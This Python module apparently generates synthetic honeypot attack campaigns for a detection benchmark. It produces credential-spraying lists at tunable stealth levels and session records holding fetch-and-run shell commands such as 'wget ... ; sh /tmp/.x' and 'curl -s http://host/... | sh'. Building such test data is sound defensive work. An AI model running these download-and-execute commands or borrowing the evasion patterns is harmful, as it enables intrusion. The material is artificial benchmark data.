"""Planted campaigns: eight kinds, each at four levels of stealth.

- tooling: a private script, key, file and file host, by common clients;
- rotating: a private list of logins, of which every session tries another slice among common ones;
- slow: one list divided among all members, a few attempts each at a steady pace over days;
- moving: one operator who changes addresses and file hosts every few hours, and keeps habits, client and key;
- waves: common habits only, but all members come within the same ninety seconds, several times;
- payload, credentials, commands: nothing but a file, a list of logins or a sequence of commands.

Stealth 0 hides nothing, 1 is the default, 2 and 3 hide more: `LEVELS` says what each level does.
"""

from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Any, Final

from bench import vocabulary
from bench.coordination import habits
from bench.coordination.world import DAY, Network, World, client_fields, fresh_digest, joined, ordinary, own_host


@dataclass(frozen=True)
class Stealth:
    """How a level hides: shares of what is shared that a session shows, and how much common is mixed in."""

    shows: float
    """Share of the private things that a session shows."""
    mixes: int
    """Common logins or commands beside each private one, at most."""
    varies: float
    """Chance that a name, file or host is the member's own instead of the campaign's."""
    jitter: float
    """Relative deviation from a steady pace, and seconds of a wave over ninety."""
    spread: float
    """Share of the whole time over which the campaign is spread."""


LEVELS: Final = (
    Stealth(shows=0.95, mixes=1, varies=0.0, jitter=0.02, spread=0.25),
    Stealth(shows=0.75, mixes=3, varies=0.15, jitter=0.06, spread=0.45),
    Stealth(shows=0.50, mixes=6, varies=0.40, jitter=0.20, spread=0.65),
    Stealth(shows=0.30, mixes=10, varies=0.65, jitter=0.50, spread=0.90),
)
DEFAULT: Final = 1


@dataclass
class Plan:
    """One campaign to be: its members and when they are active (seconds)."""

    name: str
    members: list[Network]
    begin: float
    end: float
    stealth: Stealth
    random: Random

    def moment(self) -> float:
        """Some moment of the campaign."""
        return self.random.uniform(self.begin, self.end)


def plant(world: World, number: int, kind: str, level: int) -> str:
    """Plant a campaign of a kind into a world; its name."""
    random = Random(f"{world.seed}/campaign/{number}/{kind}/{level}")
    stealth = LEVELS[level]
    length = world.days * DAY * stealth.spread
    begin = random.uniform(0, world.days * DAY - length)
    name = f"{kind}-{number}"
    # A fifth of the campaigns rent several addresses in one network.
    shared = random.random() < 0.2
    prefix = f"{random.choice((45, 91, 193))}.{random.randrange(256)}.{random.randrange(256)}"
    members = [
        world.network(prefix if shared and random.random() < 0.5 else None) for _ in range(random.randint(5, 30))
    ]
    plan = Plan(name, members, begin, begin + length, stealth, random)
    world.kinds[name] = kind
    world.truth |= {member.address: name for member in members}
    KINDS[kind](world, plan)
    for member in members:
        if random.random() < 0.3 * stealth.mixes / 3:  # an address of a campaign is often somebody else's, too
            tool = world.tool()
            world.session(
                member,
                random.uniform(0, world.days * DAY),
                **ordinary(world, tool, tool.clients[0], own_host(world, member.address), 0),
            )
    return name


def _tooling(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    token = f"{random.getrandbits(32):08x}"
    script = [habits.odd_command(random) for _ in range(5)] + [f"mkdir -p /var/tmp/.{token}", f"./{token} -o run"]
    key, shasum = f"ssh-rsa {fresh_digest(world)}", fresh_digest(world)
    hosts = [own_host(world, f"{plan.name}/{number}") for number in range(1 + int(stealth.varies * 6))]
    clients = random.sample(world.clients[:10], 2)
    for member in plan.members:
        client = random.choice(clients)
        for _ in range(random.randint(2, 5)):
            own = f"{random.getrandbits(32):08x}"
            commands = [
                step.replace(token, own) if random.random() < stealth.varies else step
                for step in script
                if random.random() < stealth.shows
            ]
            commands = _mixed(world, commands, stealth)
            shown: dict[str, Any] = {}
            if random.random() < stealth.shows:
                url = f"http://{random.choice(hosts)}/{'s.sh' if random.random() > stealth.varies else own}"
                commands.append(f"wget {url} -O /tmp/.x; sh /tmp/.x")
                changed = random.random() < stealth.varies
                shown = {"urls": [url], "downloads": [fresh_digest(world) if changed else shasum]}
            if random.random() < stealth.shows * 0.5:
                shown["keys"] = [key]
            world.session(
                member, plan.moment(), commands=commands, succeeded=True, attack_type="intrusion",
                credentials=_common(world, 3), **client_fields(client), **shown,
            )  # fmt: skip


def _rotating(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    names = random.sample(vocabulary.USERNAMES, 5)
    stem = random.choice(vocabulary.PASSWORDS[20:])
    private = [(random.choice(names), f"{stem}{random.choice('@-_')}{random.getrandbits(20):05x}") for _ in range(40)]
    client = random.choice(world.clients[:12])
    for index, member in enumerate(plan.members):
        for turn in range(random.randint(2, 5)):
            start = (index * 3 + turn * 7) % len(private)
            size = max(int(12 * stealth.shows), 2)
            some = [private[(start + step) % len(private)] for step in range(size)]
            tried = [joined(pair) for pair in some] + _common(world, stealth.mixes * 2)
            random.shuffle(tried)
            mine = client if random.random() > stealth.varies else random.choice(world.clients[:12])
            world.session(member, plan.moment(), credentials=tried, **client_fields(mine))


def _slow(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    word = random.choice(("Harbor", "Granite", "Saffron", "Juniper", "Cobalt", "Meridian"))
    names = random.sample(vocabulary.USERNAMES[8:], 3)
    seasons = ("spring", "summer", "autumn", "winter", "Q1", "Q2")
    guesses = [f"{word}{season}{sign}{year}" for season in seasons for sign in "!@#" for year in range(2015, 2026)]
    random.shuffle(guesses)
    pace = random.uniform(2.5, 6.0) * 3600
    client = random.choice(world.clients[:8])
    position = 0
    for member in plan.members:
        moment = plan.begin + random.uniform(0, pace)
        while moment < plan.end:
            tried = []
            for _ in range(2):
                position += 1
                overlap = random.random() < stealth.shows * 0.4
                guess = random.choice(guesses[:20]) if overlap else guesses[position % len(guesses)]
                tried.append(joined((random.choice(names), guess)))
            tried += _common(world, random.randint(0, stealth.mixes // 2))
            mine = client if random.random() > stealth.varies else random.choice(world.clients[:8])
            world.session(member, moment, credentials=tried, **client_fields(mine))
            moment += pace * max(random.gauss(1, stealth.jitter), 0.1)


def _moving(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    client = vocabulary.offer(f"SSH-2.0-OpenSSH_{random.randint(6, 9)}.{random.randint(0, 9)}", random)
    pairs = [
        (
            random.choice(vocabulary.USERNAMES),
            f"{random.choice(vocabulary.PASSWORDS)}{random.choice('%&=')}{random.randint(10, 999)}",
        )
        for _ in range(8)
    ]
    script = [habits.odd_command(random) for _ in range(6)]
    key = f"ssh-ed25519 {fresh_digest(world)}"
    stay = (plan.end - plan.begin) / len(plan.members)
    for number, member in enumerate(plan.members):
        host = own_host(world, f"{plan.name}/{number // 2}")
        shasum = fresh_digest(world)
        mine = client if random.random() > stealth.varies else random.choice(world.clients[:12])
        for _ in range(random.randint(2, 5)):
            moment = plan.begin + stay * (number + random.random() * (0.8 + stealth.jitter))
            commands = _mixed(world, [step for step in script if random.random() < stealth.shows], stealth)
            commands.append(f"curl -s http://{host}/{random.getrandbits(24):06x} | sh")
            some = [pair for pair in pairs if random.random() < stealth.shows]
            world.session(
                member, moment, commands=commands, succeeded=True, attack_type="intrusion",
                credentials=[*(joined(pair) for pair in some), *_common(world, stealth.mixes)],
                downloads=[shasum], urls=[f"http://{host}/"], **client_fields(mine),
                keys=[key] if random.random() < stealth.shows * (1 - stealth.varies) else [],
            )  # fmt: skip


def _waves(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    waves = sorted(plan.moment() for _ in range(random.randint(4, 7)))
    window = 90 * (1 + 10 * stealth.jitter - 0.2)
    tools = [tool for tool in world.tools[:20] if tool.protocol == "ssh"]
    for member in plan.members:
        tool = random.choice(tools)
        client, host = random.choice(tool.clients), own_host(world, member.address)
        for wave in waves:
            if random.random() < 0.5 + stealth.shows / 2:
                shown = ordinary(world, tool, client, host, random.randrange(10)) | {"credentials": _common(world, 4)}
                world.session(member, wave + random.uniform(0, window), **shown)


def _payload(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    shasum = fresh_digest(world)
    for member in plan.members:
        client = random.choice(world.clients[:12])
        host = own_host(world, member.address if random.random() < 0.5 else plan.name)
        for _ in range(random.randint(1, 4)):
            url = f"http://{host}/{random.choice(vocabulary.PAYLOAD_NAMES)}"
            changed = random.random() < stealth.varies
            world.session(
                member, plan.moment(), commands=_mixed(world, [f"cd /tmp; wget {url}; sh w.sh"], stealth), urls=[url],
                downloads=[fresh_digest(world) if changed else shasum], succeeded=True, attack_type="download",
                credentials=_common(world, 3), **client_fields(client),
            )  # fmt: skip


def _credentials(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    token = f"{random.getrandbits(24):06x}"
    private = [
        (random.choice(vocabulary.USERNAMES), f"{random.choice(vocabulary.USERNAMES)}-{token}{n}") for n in range(12)
    ]
    for member in plan.members:
        client = random.choice(world.clients[:12])
        for _ in range(random.randint(1, 5)):
            some = [joined(pair) for pair in private if random.random() < stealth.shows]
            tried = [*some, *_common(world, stealth.mixes)]
            random.shuffle(tried)
            world.session(member, plan.moment(), credentials=tried, **client_fields(client))


def _commands(world: World, plan: Plan) -> None:
    random, stealth = plan.random, plan.stealth
    script = [
        f"{habits.odd_command(random)}{random.choice((' | sort -u', ' 2>/dev/null', ' &', ''))}" for _ in range(6)
    ]
    for member in plan.members:
        client = random.choice(world.clients[:12])
        for _ in range(random.randint(1, 4)):
            steps = [step for step in script if random.random() < stealth.shows]
            world.session(
                member, plan.moment(), commands=_mixed(world, steps, stealth), credentials=_common(world, 3),
                succeeded=True, attack_type="intrusion", **client_fields(client),
            )  # fmt: skip


def _common(world: World, most: int) -> list[str]:
    count = world.random.randint(1, max(most, 1))
    return [joined(world.pairs[int(1_500 ** world.random.random()) - 1]) for _ in range(count)]


def _mixed(world: World, commands: list[str], stealth: Stealth) -> list[str]:
    """Private commands in their order with common ones between."""
    random = world.random
    result = list(commands)
    for _ in range(random.randint(1, 1 + stealth.mixes)):
        result.insert(random.randint(0, len(result)), random.choice(vocabulary.RECONNAISSANCE[:25]))
    return result


KINDS: Final[dict[str, Callable[[World, Plan], None]]] = {
    "tooling": _tooling, "rotating": _rotating, "slow": _slow, "moving": _moving, "waves": _waves,
    "payload": _payload, "credentials": _credentials, "commands": _commands,
}  # fmt: skip
